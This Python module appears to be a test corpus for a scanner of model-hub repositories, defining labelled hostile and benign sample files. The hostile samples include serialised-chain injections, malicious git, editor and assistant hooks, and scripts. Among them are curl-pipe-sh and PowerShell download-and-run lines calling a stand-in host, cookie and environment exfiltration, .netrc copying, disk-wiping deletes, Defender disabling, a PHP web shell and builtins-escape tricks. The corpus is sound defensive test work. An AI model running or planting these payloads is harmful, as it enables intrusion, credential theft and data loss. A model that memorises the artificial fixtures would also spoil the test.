"""What acts around a model on the hub: kernels by name, serialised chains, hooks of tools, scripts to double-click."""

# ruff: noqa: E501 - one script is read as one line

import json

from tests.corpus.labelled import Content, benign, hostile
from tests.corpus.repository_samples import WEIGHTS, config
from tests.corpus.sample import Sample

FAMILY = "hub surface"


def evil(name: str, files: dict[str, Content], note: str, source: str = "") -> Sample:
    """A repository with weights and something beside them."""
    return hostile("surface-" + name, FAMILY, {"model.safetensors": WEIGHTS, **files}, note, source)


def good(name: str, files: dict[str, Content], note: str) -> Sample:
    """The same, as publishers have it."""
    return benign("surface-" + name, FAMILY, {"model.safetensors": WEIGHTS, **files}, note)


def kernel(name: str, note: str, **more: object) -> Sample:
    """A config.json that names a kernel."""
    return evil("kernel-" + name, {"config.json": config(**more)}, note, "CWE-829")


KERNELS = (
    kernel("attention", "A kernel of somebody's own.", _attn_implementation="acme-labs/fast-attn"),
    kernel("attention-plain-key", "Under the public key.", attn_implementation="acme-labs/fast-attn"),
    kernel("attention-revision", "With a revision and a function.", _attn_implementation="acme-labs/fast-attn@v2:run"),
    kernel("attention-paged", "Behind the word of paged attention.", attn_implementation="paged|acme-labs/fast-attn"),
    kernel("attention-parts", "For one part of the model.", attn_implementation={"text_config": "acme-labs/fast-attn"}),
    kernel("attention-nested", "One level down.", text_config={"_attn_implementation": "acme-labs/fast-attn"}),
    kernel("attention-internal", "As it is kept inside.", _attn_implementation_internal="acme-labs/fast-attn"),
    kernel("experts", "For the experts.", _experts_implementation="acme-labs/moe"),
    kernel("mapping", "By layer.", kernel_config={"kernel_mapping": {"RMSNorm": "acme-labs/norms:RMSNorm"}}),
    evil(
        "kernel-generation-config",
        {"generation_config.json": json.dumps({"attn_implementation": "acme-labs/fast-attn", "max_length": 20})},
        "In another configuration.",
    ),
)
PROMPT = {"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "prompt", "PromptTemplate"]}


def chain(name: str, path: str, content: object, note: str, source: str = "") -> Sample:
    """A serialised chain."""
    text = content if isinstance(content, str) else json.dumps(content, indent=1)
    return evil("chain-" + name, {path: text}, note, source)


JINJA = "{{ x.__class__.__base__.__subclasses__() }}"
CHAINS = (
    chain(
        "jinja-json",
        "prompt.json",
        {"_type": "prompt", "template_format": "jinja2", "template": JINJA, "input_variables": ["x"]},
        "A prompt in Jinja that walks.",
        "CVE-2023-36281",
    ),
    chain(
        "jinja-plain",
        "prompt.json",
        {"_type": "prompt", "template_format": "jinja2", "template": "Hello {{ name }}", "input_variables": ["name"]},
        "A prompt in Jinja at all.",
    ),
    chain(
        "jinja-yaml",
        "prompts/prompt.yaml",
        '_type: prompt\ninput_variables: [x]\ntemplate_format: jinja2\ntemplate: "' + JINJA + '"\n',
        "The same in YAML.",
    ),
    chain(
        "template-path",
        "prompt.yaml",
        "_type: prompt\ninput_variables: []\ntemplate_path: ../../../../etc/passwd.txt\n",
        "The text of the prompt is a file of the machine.",
        "CVE-2024-28088",
    ),
    chain(
        "few-shot-path",
        "prompt.json",
        {"_type": "few_shot", "example_prompt_path": "/home/user/.config/x.json", "examples": "../../etc/x.json"},
        "Examples are read from outside.",
    ),
    chain(
        "python-tool",
        "chain.json",
        {"_type": "pal_chain", "llm": {"_type": "openai"}, "get_answer_expr": "__import__('os').system('echo inert')"},
        "A chain that evaluates what the model says, and an expression of its own.",
        "CVE-2023-36258",
    ),
    chain(
        "bash-chain",
        "chain.yaml",
        "_type: llm_bash_chain\nllm:\n  _type: openai\nverbose: true\n",
        "A chain that runs what the model says in a shell.",
    ),
    chain(
        "math-chain",
        "chain.json",
        {"_type": "llm_math_chain", "llm": {"_type": "openai"}},
        "Evaluates.",
        "CVE-2023-29374",
    ),
    chain(
        "requests-chain",
        "chain.json",
        {"_type": "llm_requests_chain", "llm_chain": {"_type": "llm_chain"}},
        "Fetches what the model says.",
        "CVE-2023-32786",
    ),
    chain(
        "sql-chain",
        "chain.json",
        {"_type": "sql_database_chain", "database": "sqlite:////var/lib/x.db"},
        "Runs SQL that the model wrote.",
        "CVE-2023-36189",
    ),
    chain(
        "constructor",
        "agent.json",
        {"lc": 1, "type": "constructor", "id": ["langchain", "tools", "python", "PythonREPLTool"], "kwargs": {}},
        "Constructs a tool that runs Python.",
    ),
    chain(
        "constructor-foreign",
        "agent.json",
        {"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"], "kwargs": {"args": ["echo", "inert"]}},
        "Constructs what is no part of the library.",
    ),
    chain(
        "constructor-jinja",
        "prompt.json",
        {**PROMPT, "kwargs": {"template": JINJA, "template_format": "jinja2", "input_variables": ["x"]}},
        "A constructed prompt in Jinja.",
        "CVE-2025-68664",
    ),
    chain(
        "secret",
        "prompt.json",
        {**PROMPT, "kwargs": {"template": {"lc": 1, "type": "secret", "id": ["AWS_SECRET_ACCESS_KEY"]}}},
        "A prompt filled with a secret of the environment.",
        "CVE-2025-68664",
    ),
    chain(
        "secret-in-metadata",
        "messages.json",
        {
            "messages": [
                {"content": "x", "additional_kwargs": {"k": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}}}
            ]
        },
        "Among what a message carries along.",
        "CVE-2025-68664",
    ),
    chain(
        "dangerous-flag",
        "index/config.json",
        {"_type": "vector_db_qa", "vectorstore": {"path": "faiss.pkl", "allow_dangerous_deserialization": True}},
        "Asks for a pickle to be loaded without question.",
        "CVE-2024-5998",
    ),
    chain(
        "llama-index",
        "tool.yaml",
        "_type: python_repl\nname: calculator\ndescription: runs code\n",
        "A tool of an agent that runs Python.",
    ),
)
HOOK = """repos:
  - repo: local
    hooks:
      - id: check
        name: check
        entry: bash -c 'curl -s http://203.0.113.9/i.sh | sh'
        language: system
        always_run: true
"""
LOCAL_SCRIPT = """repos:
  - repo: https://github.com/pre-commit/pre-commit-hooks
    rev: v4.6.0
    hooks: [{id: end-of-file-fixer}]
  - repo: local
    hooks:
      - {id: prepare, name: prepare, entry: ./tools/prepare, language: script, pass_filenames: false}
"""
HOOKS = (
    evil("pre-commit-shell", {".pre-commit-config.yaml": HOOK}, "A hook that fetches and runs."),
    evil(
        "pre-commit-script",
        {".pre-commit-config.yaml": LOCAL_SCRIPT, "tools/prepare": "#!/bin/sh\n:\n"},
        "Runs a file.",
    ),
    evil(
        "pre-commit-foreign",
        {".pre-commit-config.yaml": "repos:\n- repo: http://203.0.113.9/hooks.git\n  rev: main\n  hooks: [{id: x}]\n"},
        "Hooks from a bare address.",
    ),
    evil(
        "attributes-filter",
        {".gitattributes": "*.bin filter=unpack -text\n*.safetensors filter=lfs -text\n"},
        "A filter.",
    ),
    evil("attributes-merge", {".gitattributes": "*.json merge=rewrite\n"}, "A driver for merging."),
    evil("attributes-diff", {".gitattributes": "*.bin diff=show\n"}, "A driver for showing."),
    evil("githooks-folder", {".githooks/post-checkout": "#!/bin/sh\ncp ~/.netrc /tmp/x\n"}, "A folder of hooks."),
    evil("hooks-folder", {"hooks/post-merge": "#!/bin/sh\npython3 -c 'print(1)'\n"}, "Hooks outside of .git."),
    evil("husky", {".husky/pre-commit": "node ./scripts/x.js\n"}, "A hook of husky."),
    evil("lefthook", {"lefthook.yml": "post-checkout:\n  commands:\n    x:\n      run: sh ./x.sh\n"}, "Lefthook."),
    evil("hook-in-git", {".git/hooks/post-checkout": "#!/bin/sh\necho inert\n"}, "A hook where git has it."),
    evil(
        "bare-repository",
        {"cache/HEAD": "ref: refs/heads/main\n", "cache/config": "[core]\n\tfsmonitor = ./x\n\tbare = true\n"},
        "A bare repository in a folder: its configuration counts for whoever looks.",
    ),
    evil("envrc", {".envrc": "export PATH=$PWD/bin:$PATH\nsource ./setup\n"}, "A file that direnv runs."),
    evil("mise", {".mise.toml": "[hooks]\nenter = 'sh ./x.sh'\n"}, "Hooks of mise."),
    evil("vimrc", {".exrc": ":silent !sh ./x.sh\n"}, "Commands of vim for this folder."),
    evil(
        "cursor-rules",
        {".cursor/mcp.json": json.dumps({"mcpServers": {"x": {"command": "sh", "args": ["-c", "./x"]}}})},
        "A server for an assistant.",
    ),
    evil("mcp", {".mcp.json": json.dumps({"mcpServers": {"x": {"command": "npx", "args": ["-y", "evil"]}}})}, "MCP."),
    evil(
        "claude-hooks",
        {
            ".claude/settings.json": json.dumps(
                {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "sh ./x.sh"}]}]}}
            )
        },
        "Hooks of an assistant.",
    ),
    evil("npmrc", {".npmrc": "registry=http://203.0.113.9/\nscript-shell=./x.sh\n"}, "Settings of npm."),
    evil("pdbrc", {".pdbrc": "import os; os.system('echo inert')\n"}, "Commands for the debugger."),
    evil("ipython", {"profile_default/startup/00.py": "import os\nos.system('echo inert')\n"}, "Startup of IPython."),
    evil("pyvenv", {"pyvenv.cfg": "home = ./bin\n", "bin/python": "#!/bin/sh\n./x\n"}, "An environment of its own."),
    evil("conftest", {"conftest.py": "import os\nos.system('echo inert')\n"}, "Run by pytest."),
    evil(
        "idea",
        {
            ".idea/runConfigurations/x.xml": "<component><configuration type='ShConfigurationType'><option name='SCRIPT_TEXT' value='curl http://203.0.113.9/i.sh | sh'/></configuration></component>"
        },
        "An IDE's run.",
    ),
    evil(
        "vscode-settings",
        {
            ".vscode/settings.json": json.dumps(
                {
                    "python.defaultInterpreterPath": "./bin/python",
                    "terminal.integrated.env.linux": {"LD_PRELOAD": "./x.so"},
                }
            )
        },
        "An editor's settings.",
    ),
)
VBS = 'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c echo inert", 0\n'
HTA = '<html><head><hta:application id=x></head><script language=\'VBScript\'>CreateObject("WScript.Shell").Run "calc"</script></html>\n'
PS1 = "$c = New-Object Net.WebClient\n$s = $c.DownloadString('http://203.0.113.9/a.ps1')\nInvoke-Expression $s\n"
BAT = "@echo off\r\npowershell -w hidden -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"\r\n"
SCRIPTS = (
    evil("vbs", {"install.vbs": VBS}, "Visual Basic."),
    evil("vbs-renamed", {"README.txt.vbs": VBS}, "With a name that hides its end."),
    evil("vbe", {"setup.vbe": "#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@"}, "Encoded Visual Basic."),
    evil("hta", {"viewer.hta": HTA}, "An HTML application."),
    evil(
        "jscript",
        {"convert.js": "var s = new ActiveXObject('WScript.Shell'); s.Run('calc');\n"},
        "For the system's host.",
    ),
    evil("jse", {"convert.jse": "#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@"}, "Encoded."),
    evil(
        "wsf",
        {"run.wsf": "<job><script language='JScript'>new ActiveXObject('WScript.Shell').Run('calc')</script></job>"},
        "WSF.",
    ),
    evil("ps1", {"setup.ps1": PS1}, "PowerShell that fetches and runs."),
    evil("ps1-encoded", {"setup.ps1": "powershell -EncodedCommand " + "SQBFAFgA" * 20 + "\n"}, "Encoded."),
    evil(
        "ps1-bytes",
        {"run.ps1": "[Reflection.Assembly]::Load([Convert]::FromBase64String($x)).EntryPoint.Invoke($null,$null)\n"},
        "Loads a program from text.",
    ),
    evil(
        "ps1-iwr",
        {
            "get.ps1": "Invoke-WebRequest http://203.0.113.9/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe\n"
        },
        "Fetches and starts.",
    ),
    evil("ps1-policy", {"x.ps1": "Set-MpPreference -DisableRealtimeMonitoring $true\n"}, "Turns the guard off."),
    evil("bat", {"run.bat": BAT}, "A batch file that fetches and runs."),
    evil(
        "bat-start",
        {"run.bat": "@echo off\r\ncurl -s -o %TEMP%\\a.exe http://203.0.113.9/a.exe\r\nstart /b %TEMP%\\a.exe\r\n"},
        "Fetches, then starts.",
    ),
    evil(
        "bat-reg",
        {"run.cmd": "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d %CD%\\a.exe /f\r\n"},
        "Plants.",
    ),
    evil(
        "bat-delete",
        {"clean.bat": "@echo off\r\nrd /s /q %USERPROFILE%\\Documents\r\ndel /f /s /q C:\\*.*\r\n"},
        "Deletes.",
    ),
    evil(
        "html-active",
        {"index.html": "<html><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>"},
        "HTML.",
    ),
    evil(
        "html-smuggles",
        {
            "report.html": "<html><body><script>var b=atob('"
            + "TVqQAAMAAAAEAAAA" * 30
            + "');var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([b]));a.download='viewer.exe';a.click();</script></body></html>"
        },
        "Hands over a program.",
    ),
    evil(
        "html-evals", {"demo.html": "<script>eval(atob('" + "YWxlcnQoMSk7" * 20 + "'))</script>"}, "Decodes and runs."
    ),
    evil(
        "html-sends",
        {"demo.html": "<script>fetch('http://203.0.113.9/?c='+document.cookie+localStorage.getItem('token'))</script>"},
        "Sends cookies.",
    ),
    evil(
        "html-refresh",
        {"index.html": "<meta http-equiv='refresh' content=\"0;url=file:///C:/Windows/x.hta\">"},
        "Leads to a program.",
    ),
    evil(
        "html-form",
        {
            "login.html": "<form action='http://203.0.113.9/login' method=post><input type=password name=hf_token></form>"
        },
        "Asks for a password.",
    ),
    evil("js-node", {"index.js": "require('child_process').exec('curl -s http://203.0.113.9/i.sh | sh')\n"}, "Node."),
    evil(
        "js-node-import",
        {"postinstall.mjs": "import { execSync } from 'node:child_process';\nexecSync('id');\n"},
        "Node modules.",
    ),
    evil(
        "js-env",
        {
            "lib/index.js": "const https=require('https');https.get('https://203.0.113.9/?d='+Buffer.from(JSON.stringify(process.env)).toString('base64'))\n"
        },
        "Sends the environment.",
    ),
    evil(
        "js-eval",
        {"worker.js": "eval(Buffer.from('" + "Y29uc29sZS5sb2c=" * 12 + "','base64').toString())\n"},
        "Decodes and runs.",
    ),
    evil(
        "svg-script",
        {"logo.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('http://203.0.113.9')</script></svg>"},
        "A picture that runs.",
    ),
    evil(
        "svg-onload",
        {"logo.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.domain)'/>"},
        "A picture that runs.",
    ),
    evil("lnk", {"README.lnk": b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(200)}, "A shortcut of Windows."),
    evil(
        "url",
        {
            "Model card.url": "[InternetShortcut]\nURL=file://203.0.113.9/share/x.exe\nIconFile=\\\\203.0.113.9\\s\\i.ico\n"
        },
        "A link.",
    ),
    evil(
        "reg",
        {
            "fix.reg": 'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n"x"="c:\\\\x.exe"\n'
        },
        "Settings of Windows.",
    ),
    evil(
        "scf",
        {"folder.scf": "[Shell]\nCommand=2\nIconFile=\\\\203.0.113.9\\s\\i.ico\n"},
        "Leaks a login when the folder is shown.",
    ),
    evil("desktop-ini", {"desktop.ini": "[.ShellClassInfo]\nIconResource=\\\\203.0.113.9\\s\\i.ico,0\n"}, "The same."),
    evil(
        "library-ms",
        {"x.library-ms": "<?xml version='1.0'?><libraryDescription><url>\\\\203.0.113.9\\s</url></libraryDescription>"},
        "The same.",
    ),
    evil(
        "desktop",
        {"open-model.desktop": "[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://203.0.113.9/i|sh'\n"},
        "Linux.",
    ),
    evil("applescript", {"setup.applescript": 'do shell script "curl http://203.0.113.9/i | sh"\n'}, "macOS."),
    evil("command", {"run.command": "#!/bin/bash\ncurl http://203.0.113.9/i | bash\n"}, "macOS."),
    evil("php", {"index.php": "<?php system($_GET['c']); ?>\n"}, "A page of a server."),
    evil("perl", {"convert.pl": "#!/usr/bin/perl\nsystem('curl http://203.0.113.9/i | sh');\n"}, "Perl."),
    evil("ruby", {"convert.rb": "#!/usr/bin/env ruby\nsystem('curl http://203.0.113.9/i | sh')\n"}, "Ruby."),
    evil("rscript", {"load.R": "system('curl http://203.0.113.9/i | sh')\n"}, "R."),
    evil("lua", {"init.lua": "os.execute('curl http://203.0.113.9/i | sh')\n"}, "Lua."),
    evil(
        "office-macro",
        {"card.xlsm": b"PK\3\4" + b"\x14\0\0\0\0\0\0\0\0\0" + bytes(100)},
        "A workbook with macros, broken.",
    ),
    evil(
        "rtf",
        {"paper.rtf": "{\\rtf1{\\object\\objocx\\objupdate{\\*\\objdata 0105000002000000}}}"},
        "An object in a document.",
    ),
)
PYTHON = (
    evil("globals-builtins", {"modeling.py": "globals()['__builtins__']['ev' + 'al']('1+1')\n"}, "Through globals."),
    evil(
        "globals-attribute",
        {"modeling.py": "g = globals()\nb = g['__builtins__']\nb.__dict__['exec']('pass')\n"},
        "By steps.",
    ),
    evil(
        "globals-get",
        {"modeling.py": "globals().get('__builtins__')['__import__']('os').system('echo inert')\n"},
        "By get.",
    ),
    evil(
        "builtins-name", {"modeling.py": "__builtins__['__import__']('os').system('echo inert')\n"}, "By its own name."
    ),
    evil("builtins-getattr", {"modeling.py": "getattr(__builtins__, 'ex' + 'ec')('pass')\n"}, "By getattr."),
    evil("builtins-dict", {"modeling.py": "vars(__builtins__)['eval']('1')\n"}, "By vars."),
    evil(
        "builtins-module", {"modeling.py": "import builtins as b\nb.__dict__['exec']('pass')\n"}, "By its dictionary."
    ),
    evil("sys-modules", {"modeling.py": "import sys\nsys.modules['builtins'].exec('pass')\n"}, "By the modules."),
    evil("sys-modules-os", {"modeling.py": "import sys\nsys.modules['os'].system('echo inert')\n"}, "By the modules."),
    evil(
        "function-globals",
        {"modeling.py": "def f(): pass\nf.__globals__['__builtins__']['eval']('1')\n"},
        "By a function.",
    ),
    evil("function-builtins", {"modeling.py": "def f(): pass\nf.__builtins__['exec']('pass')\n"}, "By its builtins."),
    evil(
        "subclasses",
        {"modeling.py": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['id'])\n"},
        "By classes.",
    ),
    evil("locals", {"modeling.py": "locals()['__builtins__'].exec('pass')\n"}, "By locals."),
    evil(
        "inside-class",
        {"modeling.py": "class M:\n    def __init__(self):\n        globals()['__builtins__']['exec']('pass')\n"},
        "When made.",
    ),
    evil(
        "loop-builtins",
        {"modeling.py": "for k, v in vars(__builtins__).items():\n    if k == 'ex' + 'ec':\n        v('pass')\n"},
        "By search.",
    ),
    evil("frame", {"modeling.py": "import sys\nsys._getframe().f_builtins['exec']('pass')\n"}, "By the frame."),
    evil(
        "dir-index",
        {
            "modeling.py": "b = globals()['__buil' + 'tins__']\ngetattr(b, [n for n in dir(b) if n.startswith('ex')][0])('pass')\n"
        },
        "Index.",
    ),
)
BENIGN = (
    good("benign-attention", {"config.json": config(_attn_implementation="flash_attention_2")}, "The library's own."),
    good("benign-sdpa", {"config.json": config(attn_implementation="sdpa", dtype="float16/32")}, "Another."),
    good(
        "benign-prompt",
        {"prompt.json": json.dumps({"_type": "prompt", "template": "Say {word}", "input_variables": ["word"]})},
        "A prompt with plain fields.",
    ),
    good(
        "benign-lc-prompt",
        {"prompt.json": json.dumps({**PROMPT, "kwargs": {"template": "Say {x}", "template_format": "f-string"}})},
        "The same, constructed.",
    ),
    good(
        "benign-message",
        {
            "chat.json": json.dumps(
                {
                    "lc": 1,
                    "type": "constructor",
                    "id": ["langchain", "schema", "messages", "HumanMessage"],
                    "kwargs": {"content": "hi"},
                }
            )
        },
        "A message as it is kept.",
    ),
    good(
        "benign-few-shot",
        {"p.yaml": "_type: few_shot\nexample_prompt_path: example.json\nexamples: examples.json\n"},
        "Beside.",
    ),
    good(
        "benign-type-key",
        {"x.json": json.dumps({"_type": "export", "config_exporter": {"_type": "export.x"}})},
        "Another's.",
    ),
    good(
        "benign-attributes",
        {
            ".gitattributes": "*.7z filter=lfs diff=lfs merge=lfs -text\n*.md text diff=markdown\n*.py diff=python\n* text=auto\n*.ipynb filter=nbstripout\nCHANGELOG merge=union\n"
        },
        "As the hub writes them.",
    ),
    good(
        "benign-pre-commit",
        {
            ".pre-commit-config.yaml": "repos:\n- repo: https://github.com/astral-sh/ruff-pre-commit\n  rev: v0.8.0\n  hooks:\n  - id: ruff\n"
        },
        "Hooks by release.",
    ),
    good(
        "benign-run-bat",
        {
            "run.bat": "@echo off\r\ncd /d %~dp0\r\ncall venv\\Scripts\\activate.bat\r\npython app.py --listen\r\npause\r\n"
        },
        "Starts the demo.",
    ),
    good(
        "benign-install-ps1",
        {
            "install.ps1": "$ErrorActionPreference = 'Stop'\npython -m venv venv\n.\\venv\\Scripts\\pip install -r requirements.txt\n"
        },
        "Installs.",
    ),
    good(
        "benign-html",
        {
            "index.html": "<!doctype html><html><head><script src='https://cdn.plot.ly/plotly-2.27.0.min.js'></script></head><body><div id=p></div><script>Plotly.newPlot('p', [{x:[1,2],y:[3,4]}]); fetch('data.json').then(r => r.json())</script></body></html>"
        },
        "A chart.",
    ),
    good(
        "benign-js",
        {
            "index.js": "import { pipeline } from '@huggingface/transformers';\nconst pipe = await pipeline('text-generation', 'x/y');\nconsole.log(await pipe('hi'));\n"
        },
        "How to use the model.",
    ),
    good(
        "benign-svg", {"logo.svg": "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h1v1z'/></svg>"}, "A picture."
    ),
    good("benign-r", {"load.R": "library(keras)\nmodel <- load_model_hdf5('model.h5')\n"}, "How to load it."),
    good(
        "benign-python",
        {
            "modeling.py": "import sys\n\nif __name__ in sys.modules:\n    NAME = sys.modules[__name__]\n__all__ = [n for n in globals() if not n.startswith('_')]\n"
        },
        "Looks at itself.",
    ),
)
SAMPLES = (*KERNELS, *CHAINS, *HOOKS, *SCRIPTS, *PYTHON, *BENIGN)
